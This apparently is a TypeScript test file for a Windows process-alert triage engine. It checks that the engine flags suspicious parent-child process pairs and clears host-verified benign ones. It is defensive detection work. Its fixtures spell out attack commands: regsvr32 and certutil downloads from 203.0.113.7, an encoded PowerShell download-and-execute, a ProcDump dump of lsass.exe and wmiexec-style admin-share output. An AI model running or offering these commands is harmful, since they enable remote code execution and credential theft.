/**
 * Issue 14's decision rules on realistic pairs: the behavioural indicators (one table, each with its
 * weight and ATT&CK technique), benign verified on the host without reputation, and creators the
 * event names only by PID (Security 4688 before Windows Server 2016).
 */
import { UNKNOWN_PROCESS_NAME, type AlertProcess, type CanonicalAlert } from '../../common/alert';
import type { Decision } from '../../common/decision';
import type { FileFacts, ProcessInfo } from '../../common/host-contract';
import { BEHAVIOURS, decide, REASON_WEIGHTS } from '../../workflows/decision';
import {
  alertOf,
  BOB,
  enrich,
  EXCEL,
  EXPLORER,
  OUTLOOK,
  policyOf,
  POWERSHELL,
  proc,
  STARTED,
  SYS32,
  SYSTEM,
  vtClean,
  WORD,
  type EnrichmentSpec,
} from './builders';

const MS = 'Microsoft Windows';
const ENCODED = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA';
const CMD = `${SYS32}\\cmd.exe`;

/** What GetFileEnrichment.ps1 reports for a genuine Windows file: verified Microsoft OS binary. */
function osBinary(path: string): FileFacts {
  return {
    path,
    exists: true,
    sha256: 'ab'.repeat(32),
    signature: {
      status: 'valid',
      signer: 'CN=Microsoft Windows, O=Microsoft Corporation',
      isMicrosoft: true,
      isOsBinary: true,
    },
    versionInfo: { originalFilename: path.split('\\').pop() ?? null, companyName: 'Microsoft Corporation' },
    expectedLocation: true,
  };
}

function decideOn(alert: CanonicalAlert, spec: EnrichmentSpec | null = {}, creator?: ProcessInfo | null): Decision {
  const enrichment = spec === null ? null : { ...enrich(alert, spec), ...(creator !== undefined ? { creator } : {}) };
  return decide({ alert, enrichment, policy: policyOf() });
}

/** `powershell -EncodedCommand` takes UTF-16LE base64. */
const utf16Base64 = (script: string) => Buffer.from(script, 'utf16le').toString('base64');

const codes = (decision: Decision) => decision.reasons.filter((r) => r.weight > 0).map((r) => r.code);
const reason = (decision: Decision, code: string) => decision.reasons.find((r) => r.code === code);

describe('behavioural indicators', () => {
  const cases: {
    name: string;
    alert: CanonicalAlert;
    indicator: keyof typeof BEHAVIOURS;
    verdict: Decision['verdict'];
  }[] = [
    {
      name: 'winlogon.exe starting cmd.exe (an accessibility backdoor at the logon screen)',
      alert: alertOf(proc(612, `${SYS32}\\winlogon.exe`, MS), proc(5120, CMD, MS, { commandLine: 'cmd.exe' }), SYSTEM),
      indicator: 'critical-process-spawned-shell',
      verdict: 'malicious',
    },
    {
      name: 'services.exe starting cmd.exe that echoes into a named pipe (getsystem)',
      alert: alertOf(
        proc(700, `${SYS32}\\services.exe`, MS),
        proc(5400, CMD, MS, { commandLine: 'cmd.exe /c echo 559891bb017 > \\\\.\\pipe\\5e120a' }),
        SYSTEM,
      ),
      indicator: 'named-pipe-impersonation',
      verdict: 'malicious',
    },
    {
      name: 'services.exe starting a shell command as a service (PsExec-style)',
      alert: alertOf(
        proc(700, `${SYS32}\\services.exe`, MS),
        proc(5410, CMD, MS, { commandLine: 'cmd.exe /c C:\\ops\\nightly-backup.cmd' }),
        SYSTEM,
      ),
      indicator: 'service-manager-spawned-shell',
      verdict: 'suspicious',
    },
    {
      name: 'the System process (PID 4) starting cmd.exe',
      alert: alertOf({ pid: 4, name: 'System' }, proc(5500, CMD, MS, { commandLine: 'cmd.exe /c whoami' }), SYSTEM),
      indicator: 'system-spawned-unexpected-child',
      verdict: 'malicious',
    },
    {
      name: 'wininit.exe starting notepad.exe (not one of its children)',
      alert: alertOf(proc(560, `${SYS32}\\wininit.exe`, MS), proc(5600, `${SYS32}\\notepad.exe`, MS), SYSTEM),
      indicator: 'unexpected-child-of-system-process',
      verdict: 'suspicious',
    },
    {
      name: 'WINWORD.EXE starting rundll32.exe with no arguments (Cobalt Strike spawn-to)',
      alert: alertOf(proc(4312, WORD, MS), proc(5700, `${SYS32}\\rundll32.exe`, MS, { commandLine: 'rundll32.exe' })),
      indicator: 'lolbin-without-arguments',
      verdict: 'malicious',
    },
    {
      name: 'regsvr32 registering a scriptlet from a URL (Squiblydoo)',
      alert: alertOf(
        proc(2100, EXPLORER, MS),
        proc(5800, `${SYS32}\\regsvr32.exe`, MS, {
          commandLine: 'regsvr32.exe /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll',
        }),
      ),
      indicator: 'scriptlet-from-url',
      verdict: 'malicious',
    },
    {
      name: 'chrome.exe starting mshta.exe on a file in Downloads',
      alert: alertOf(
        proc(3300, 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'Google LLC'),
        proc(5900, `${SYS32}\\mshta.exe`, MS, {
          commandLine: '"C:\\Windows\\System32\\mshta.exe" "C:\\Users\\bob\\Downloads\\invoice.hta"',
        }),
      ),
      indicator: 'script-in-mail-or-browser-cache',
      verdict: 'malicious',
    },
    {
      name: 'OUTLOOK.EXE starting wscript.exe on an attachment in Content.Outlook',
      alert: alertOf(
        proc(3400, OUTLOOK, MS),
        proc(6000, `${SYS32}\\wscript.exe`, MS, {
          commandLine:
            '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q1W2E3R4\\scan_0042.js"',
        }),
      ),
      indicator: 'script-in-mail-or-browser-cache',
      verdict: 'malicious',
    },
    {
      name: 'msedge.exe starting wscript.exe on a script outside its caches',
      alert: alertOf(
        proc(3500, 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', MS),
        proc(6100, `${SYS32}\\wscript.exe`, MS, { commandLine: 'wscript.exe C:\\tools\\check.vbs' }),
      ),
      indicator: 'script-host-from-mail-or-browser',
      verdict: 'suspicious',
    },
    {
      name: 'WmiPrvSE.exe starting powershell -enc (WMI lateral movement with a payload)',
      alert: alertOf(
        proc(2800, `${SYS32}\\wbem\\WmiPrvSE.exe`, MS),
        proc(6200, POWERSHELL, MS, { commandLine: `powershell.exe -nop -w hidden -enc ${ENCODED}` }),
      ),
      indicator: 'remote-management-shell-with-payload',
      verdict: 'malicious',
    },
    {
      name: 'wsmprovhost.exe starting cmd.exe /c ipconfig (WinRM: admin or attacker)',
      alert: alertOf(
        proc(2900, `${SYS32}\\wsmprovhost.exe`, MS),
        proc(6300, CMD, MS, { commandLine: 'cmd.exe /c ipconfig /all' }),
      ),
      indicator: 'remote-management-shell',
      verdict: 'suspicious',
    },
    {
      name: 'EXCEL.EXE starting certutil to fetch a file',
      alert: alertOf(
        proc(4400, EXCEL, MS),
        proc(6400, `${SYS32}\\certutil.exe`, MS, {
          commandLine: 'certutil.exe -urlcache -split -f http://203.0.113.7/p.txt C:\\Users\\Public\\p.exe',
        }),
      ),
      indicator: 'office-lolbin-payload',
      verdict: 'malicious',
    },
    {
      name: 'powershell whose encoded command downloads and runs code (decoded as an analyst would)',
      alert: alertOf(
        proc(2100, EXPLORER, MS),
        proc(6500, POWERSHELL, MS, {
          commandLine: `powershell.exe -enc ${utf16Base64("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')")}`,
        }),
      ),
      indicator: 'download-and-execute',
      verdict: 'malicious',
    },
    {
      name: 'certutil fetching an executable into C:\\Windows\\Temp',
      alert: alertOf(
        proc(4100, CMD, MS),
        proc(6600, `${SYS32}\\certutil.exe`, MS, {
          commandLine: 'certutil.exe -urlcache -f http://203.0.113.7/l.exe C:\\Windows\\Temp\\l.exe',
        }),
      ),
      indicator: 'lolbin-download',
      verdict: 'malicious',
    },
    {
      name: 'tomcat9.exe starting cmd.exe /c net group "domain admins" /domain',
      alert: alertOf(
        proc(3900, 'C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\tomcat9.exe', 'unsigned'),
        proc(6700, CMD, MS, { commandLine: 'cmd.exe /c net group "domain admins" /domain' }),
      ),
      indicator: 'web-shell-discovery',
      verdict: 'malicious',
    },
    {
      name: 'a renamed ProcDump dumping lsass.exe',
      alert: alertOf(
        proc(4100, CMD, MS),
        proc(6800, 'C:\\Windows\\Temp\\dbgh64.exe', 'Microsoft Corporation', {
          commandLine: 'dbgh64.exe -accepteula -r -ma lsass.exe C:\\Windows\\Temp\\dbg.dmp',
          originalFileName: 'procdump',
        }),
      ),
      indicator: 'credential-dumping',
      verdict: 'malicious',
    },
    {
      name: 'WmiPrvSE.exe starting cmd.exe that writes to \\\\127.0.0.1\\ADMIN$ (Impacket wmiexec)',
      alert: alertOf(
        proc(2800, `${SYS32}\\wbem\\WmiPrvSE.exe`, MS),
        proc(6900, CMD, MS, { commandLine: 'cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1721099051.552 2>&1' }),
      ),
      indicator: 'remote-exec-output-to-admin-share',
      verdict: 'malicious',
    },
    {
      name: 'services.exe starting PsExec’s own service from C:\\Windows (admin or attacker)',
      alert: alertOf(
        proc(700, `${SYS32}\\services.exe`, MS),
        proc(7000, 'C:\\Windows\\PSEXESVC.exe', 'Microsoft Corporation'),
        SYSTEM,
      ),
      indicator: 'service-binary-in-windows-root',
      verdict: 'suspicious',
    },
    {
      name: 'services.exe starting an unsigned, randomly named binary in C:\\Windows (Metasploit psexec)',
      alert: alertOf(
        proc(700, `${SYS32}\\services.exe`, MS),
        proc(7010, 'C:\\Windows\\ZsKvHqTr.exe', 'unsigned'),
        SYSTEM,
      ),
      indicator: 'unsigned-service-binary-in-windows-root',
      verdict: 'malicious',
    },
    {
      name: 'InstallUtil /U on a DLL in C:\\Users\\Public',
      alert: alertOf(
        proc(4100, CMD, MS),
        proc(7100, 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe', MS, {
          commandLine: 'InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\Public\\Libraries\\msupd.dll',
        }),
      ),
      indicator: 'lolbin-proxy-user-file',
      verdict: 'suspicious',
    },
    {
      name: 'winlogon.exe starting sethc.exe that is cmd.exe under another name (sticky keys)',
      alert: alertOf(
        proc(612, `${SYS32}\\winlogon.exe`, MS),
        proc(7200, `${SYS32}\\sethc.exe`, MS, { commandLine: 'sethc.exe 211', originalFileName: 'Cmd.Exe' }),
        SYSTEM,
      ),
      indicator: 'critical-process-spawned-shell',
      verdict: 'malicious',
    },
  ];

  it('covers every indicator of the table', () => {
    expect(new Set(cases.map((c) => c.indicator))).toEqual(new Set(Object.keys(BEHAVIOURS)));
  });

  it.each(cases.map((c) => [c.name, c] as const))('%s', (_name, c) => {
    const decision = decideOn(c.alert, { parentReputation: null, childReputation: null });
    expect(codes(decision)).toContain(c.indicator);
    expect(decision.verdict).toBe(c.verdict);
    const given = reason(decision, c.indicator);
    expect(given?.weight).toBe(BEHAVIOURS[c.indicator].weight);
    // The reason names its ATT&CK technique and the public rule it follows.
    expect(given?.evidence).toContain(BEHAVIOURS[c.indicator].technique);
    expect(given?.evidence).toContain(BEHAVIOURS[c.indicator].source);
  });

  it('weighs each indicator in the one table of reason weights, with an ATT&CK technique', () => {
    for (const [code, behaviour] of Object.entries(BEHAVIOURS)) {
      expect({ code, weight: REASON_WEIGHTS[code as keyof typeof REASON_WEIGHTS] }).toEqual({
        code,
        weight: behaviour.weight,
      });
      expect(behaviour.technique).toMatch(/^T\d{4}(\.\d{3})? /);
    }
  });

  it('stays quiet on the near misses', () => {
    const quiet: CanonicalAlert[] = [
      // winlogon starting userinit, rundll32 with a DLL call, regsvr32 registering a local DLL.
      alertOf(proc(612, `${SYS32}\\winlogon.exe`, MS), proc(5121, `${SYS32}\\userinit.exe`, MS), SYSTEM),
      alertOf(
        proc(2100, EXPLORER, MS),
        proc(5701, `${SYS32}\\rundll32.exe`, MS, { commandLine: 'rundll32.exe shell32.dll,Control_RunDLL desk.cpl' }),
      ),
      alertOf(
        proc(2100, EXPLORER, MS),
        proc(5801, `${SYS32}\\regsvr32.exe`, MS, { commandLine: 'regsvr32.exe /s C:\\Program Files\\Contoso\\x.dll' }),
      ),
      // a look-alike winlogon in a user folder is not the critical process (its own reasons cover it).
      alertOf(
        proc(613, 'C:\\Users\\Public\\winlogon.exe', 'unsigned'),
        proc(5122, CMD, MS, { commandLine: 'cmd.exe' }),
      ),
      // services.exe starting a service binary that is not a shell.
      alertOf(proc(700, `${SYS32}\\services.exe`, MS), proc(5411, `${SYS32}\\spoolsv.exe`, MS), SYSTEM),
    ];
    for (const alert of quiet) {
      const decision = decideOn(alert);
      const fired = codes(decision).filter((code) => code in BEHAVIOURS);
      expect({ pair: `${alert.parent.name} → ${alert.child.name}`, fired }).toEqual({
        pair: `${alert.parent.name} → ${alert.child.name}`,
        fired: [],
      });
    }
  });

  it('acts on the child, never on the critical or shared parent', () => {
    for (const c of cases.filter((c) => /winlogon|services\.exe starting cmd\.exe that|System process/.test(c.name))) {
      const decision = decideOn(c.alert);
      const parentStep = decision.plan.find((s) => s.action === 'terminate-parent');
      expect({ name: c.name, skipped: Boolean(parentStep?.skipped) }).toEqual({ name: c.name, skipped: true });
      expect(decision.plan.find((s) => s.action === 'terminate-child')?.skipped).toBeUndefined();
    }
  });
});

describe('benign without reputation, when the host verified the pair (DESIGN.md §6)', () => {
  const services = proc(700, `${SYS32}\\services.exe`, MS);
  const svchost = proc(1300, `${SYS32}\\svchost.exe`, MS, {
    commandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p',
  });
  const pair = alertOf(services, svchost, SYSTEM);
  const verified: EnrichmentSpec = {
    parentReputation: null,
    childReputation: null,
    parentHostFacts: osBinary(services.executable as string),
    childHostFacts: osBinary(svchost.executable as string),
  };

  it('services.exe → svchost.exe -k netsvcs, both verified on the host, no reputation answered: benign', () => {
    const decision = decideOn(pair, verified);
    expect(decision.verdict).toBe('benign');
    expect(decision.confidence).toBe('high');
    expect(decision.plan).toEqual([]);
    const why = reason(decision, 'host-verified-os-pair');
    expect(why?.weight).toBe(REASON_WEIGHTS['host-verified-os-pair']);
    expect(why?.evidence).toMatch(
      /verified on the host.*services\.exe.*svchost\.exe|verified on the host.*svchost\.exe.*services\.exe/,
    );
    // The reasons say where each fact came from.
    expect(reason(decision, 'trusted-signature')?.evidence).toContain('verified on the host');
    expect(decision.reasons.filter((r) => r.code === 'no-reputation')).toHaveLength(2);
  });

  it('stays benign through a reputation outage and with reputation turned off', () => {
    expect(decideOn(pair, { ...verified, parentReputation: 'off', childReputation: 'off' }).verdict).toBe('benign');
  });

  it('is not earned by the alert’s own claims: the same pair without host facts goes to an analyst', () => {
    const decision = decideOn(pair, { parentReputation: null, childReputation: null });
    expect(decision.verdict).toBe('suspicious');
    expect(decision.confidence).toBe('low');
    expect(reason(decision, 'trusted-signature')?.evidence).toContain('as the alert claims');
    // A claimed signature weighs less than a verified one.
    expect(decision.reasons.find((r) => r.code === 'trusted-signature')?.weight ?? -99).toBeGreaterThanOrEqual(0);
  });

  it('explorer.exe → notepad.exe, both verified: the shell starting an OS program is an expected relationship', () => {
    const notepad = proc(2300, `${SYS32}\\notepad.exe`, MS);
    const explorer = proc(2100, EXPLORER, MS);
    const decision = decideOn(alertOf(explorer, notepad), {
      parentHostFacts: osBinary(EXPLORER),
      childHostFacts: osBinary(notepad.executable as string),
      parentReputation: null,
      childReputation: null,
    });
    expect(decision.verdict).toBe('benign');
    expect(reason(decision, 'host-verified-os-pair')).toBeDefined();
  });

  it('is never earned by a shell or LOLBin: explorer.exe → cmd.exe, both verified, goes to an analyst', () => {
    const cmd = proc(2400, CMD, MS);
    const explorer = proc(2100, EXPLORER, MS);
    const decision = decideOn(alertOf(explorer, cmd), {
      parentHostFacts: osBinary(EXPLORER),
      childHostFacts: osBinary(CMD),
      parentReputation: null,
      childReputation: null,
    });
    expect(decision.verdict).toBe('suspicious');
    expect(reason(decision, 'host-verified-os-pair')).toBeUndefined();
  });

  it('is not earned by an unexpected relationship: winlogon.exe → notepad.exe, both verified', () => {
    const decision = decideOn(
      alertOf(proc(612, `${SYS32}\\winlogon.exe`, MS), proc(2301, `${SYS32}\\notepad.exe`, MS), SYSTEM),
      {
        parentHostFacts: osBinary(`${SYS32}\\winlogon.exe`),
        childHostFacts: osBinary(`${SYS32}\\notepad.exe`),
        parentReputation: null,
        childReputation: null,
      },
    );
    expect(decision.verdict).toBe('suspicious');
    expect(reason(decision, 'host-verified-os-pair')).toBeUndefined();
  });

  it('is not earned with a command-line indicator, nor by a svchost.exe outside System32', () => {
    const encoded = alertOf(services, { ...svchost, commandLine: `svchost.exe -k netsvcs -enc ${ENCODED}` }, SYSTEM);
    expect(decideOn(encoded, verified).verdict).not.toBe('benign');

    const misplaced = proc(1301, 'C:\\ProgramData\\svchost.exe', MS);
    const decision = decideOn(alertOf(services, misplaced, SYSTEM), {
      ...verified,
      childHostFacts: { ...osBinary(misplaced.executable as string), expectedLocation: false },
    });
    expect(decision.verdict).not.toBe('benign');
    expect(codes(decision)).toContain('system-name-wrong-location');
  });

  it('is not earned when the host could not verify the signature itself', () => {
    const unknownSignature: FileFacts = { ...osBinary(svchost.executable as string), signature: null };
    expect(decideOn(pair, { ...verified, childHostFacts: unknownSignature }).verdict).toBe('suspicious');
  });

  it('System (PID 4) → smss.exe verified on the host is benign: the kernel’s process has no file', () => {
    const smss = proc(368, `${SYS32}\\smss.exe`, MS);
    const decision = decideOn(alertOf({ pid: 4, name: 'System' }, smss, SYSTEM), {
      childHostFacts: osBinary(smss.executable as string),
      parentReputation: null,
      childReputation: null,
    });
    expect(decision.verdict).toBe('benign');
    expect(reason(decision, 'host-verified-os-pair')?.evidence).toContain("kernel's own process");
  });

  it('a clean reputation still clears a pair as before', () => {
    expect(decideOn(pair, { parentReputation: [vtClean], childReputation: [vtClean] }).verdict).toBe('benign');
  });
});

describe('creators the event names only by PID (4688 before Windows Server 2016)', () => {
  const childStart = STARTED;
  const unknownParent: AlertProcess = { pid: 4312, name: UNKNOWN_PROCESS_NAME };
  const powershell = proc(6120, POWERSHELL, MS, { commandLine: `powershell.exe -w hidden -enc ${ENCODED}` });
  const alert = alertOf(unknownParent, powershell, BOB);
  const word: ProcessInfo = {
    pid: 4312,
    found: true,
    name: 'WINWORD.EXE',
    path: WORD,
    commandLine: `"${WORD}" /n "C:\\Users\\bob\\Downloads\\invoice.docm"`,
    creationTime: '2024-05-01T10:02:00.000Z',
    owner: 'CONTOSO\\bob',
    sessionId: 2,
    parentPid: 2100,
    parentChain: [],
    descendants: [],
  };

  it('takes the parent from the host when the PID was started before the child', () => {
    const decision = decideOn(alert, { parentReputation: null, childReputation: null }, word);
    expect(reason(decision, 'parent-resolved-on-host')?.evidence).toContain(WORD);
    expect(codes(decision)).toContain('office-spawned-shell');
    expect(decision.verdict).toBe('malicious');
    // The parent is acted on as Word, with the identity the host gave it.
    const target = decision.plan.find((s) => s.action === 'terminate-parent')?.target;
    expect(target).toMatchObject({
      pid: 4312,
      imagePath: WORD,
      startTime: word.creationTime,
      startedBefore: childStart,
    });
  });

  it('keeps the parent unknown when the PID now belongs to a younger process (reused PID)', () => {
    const reused = {
      ...word,
      name: 'notepad.exe',
      path: `${SYS32}\\notepad.exe`,
      creationTime: '2024-05-01T10:30:00.000Z',
    };
    const decision = decideOn(alert, { parentReputation: null, childReputation: null }, reused);
    expect(reason(decision, 'parent-unknown')?.evidence).toMatch(/reused/);
    expect(codes(decision)).not.toContain('office-spawned-shell');
    // Decided on the child alone: the encoded hidden PowerShell still goes to an analyst at least.
    expect(decision.verdict).not.toBe('benign');
    const parentStep = decision.plan.find((s) => s.action === 'terminate-parent');
    expect(parentStep?.skipped).toMatch(/cannot be identified/);
    expect(parentStep?.target.imagePath).toBeUndefined();
  });

  it('keeps the parent unknown when the creator has exited or the host did not answer', () => {
    const gone = decideOn(alert, {}, { pid: 4312, found: false, parentChain: [], descendants: [] });
    expect(reason(gone, 'parent-unknown')?.evidence).toMatch(/no process with PID 4312/);
    const unasked = decideOn(alert, {}, null);
    expect(reason(unasked, 'parent-unknown')?.evidence).toMatch(/did not answer/);
  });

  it('claims nothing about an unknown parent: lsass.exe under it is neither expected nor unexpected', () => {
    const lsass = alertOf(unknownParent, proc(700, `${SYS32}\\lsass.exe`, MS), SYSTEM);
    const decision = decideOn(lsass, {}, null);
    expect(decision.reasons.map((r) => r.code)).not.toContain('unexpected-parent');
    expect(decision.reasons.map((r) => r.code)).not.toContain('expected-parent');
  });
});

describe('the rules older histories replay (decided in workflow code before these rules)', () => {
  const legacy = (alert: CanonicalAlert, spec: EnrichmentSpec = {}) =>
    decide({ alert, enrichment: enrich(alert, spec), policy: policyOf(), behaviours: false });

  it('have no behavioural indicators, no decoded commands and the old look-alike weight', () => {
    const lsassShell = alertOf(
      proc(700, `${SYS32}\\lsass.exe`, MS),
      proc(7400, CMD, MS, { commandLine: 'cmd.exe /c whoami' }),
      SYSTEM,
    );
    expect(decideOn(lsassShell).verdict).toBe('malicious');
    const old = legacy(lsassShell);
    expect(old.verdict).toBe('suspicious');
    expect(old.reasons.map((r) => r.code).filter((code) => code in BEHAVIOURS)).toEqual([]);

    const encoded = alertOf(
      proc(2100, EXPLORER, MS),
      proc(6120, POWERSHELL, MS, { commandLine: `powershell -enc ${ENCODED}` }),
    );
    expect(reason(legacy(encoded), 'suspicious-command-line')?.evidence).not.toContain('decoded');
    expect(reason(decideOn(encoded), 'suspicious-command-line')?.evidence).toContain('in the decoded command');

    const lookAlike = alertOf(
      proc(700, `${SYS32}\\services.exe`, MS),
      proc(1210, `${SYS32}\\svc\u200bhost.exe`, 'unsigned'),
      SYSTEM,
    );
    expect(reason(legacy(lookAlike), 'look-alike-name')?.weight).toBe(55);
    expect(reason(decideOn(lookAlike), 'look-alike-name')?.weight).toBe(REASON_WEIGHTS['look-alike-name']);
  });

  it('never clear a pair on the host’s verification alone', () => {
    const services = proc(700, `${SYS32}\\services.exe`, MS);
    const svchost = proc(1300, `${SYS32}\\svchost.exe`, MS);
    const spec: EnrichmentSpec = {
      parentHostFacts: osBinary(`${SYS32}\\services.exe`),
      childHostFacts: osBinary(`${SYS32}\\svchost.exe`),
      parentReputation: null,
      childReputation: null,
    };
    expect(legacy(alertOf(services, svchost, SYSTEM), spec).verdict).toBe('suspicious');
    expect(decideOn(alertOf(services, svchost, SYSTEM), spec).verdict).toBe('benign');
  });
});
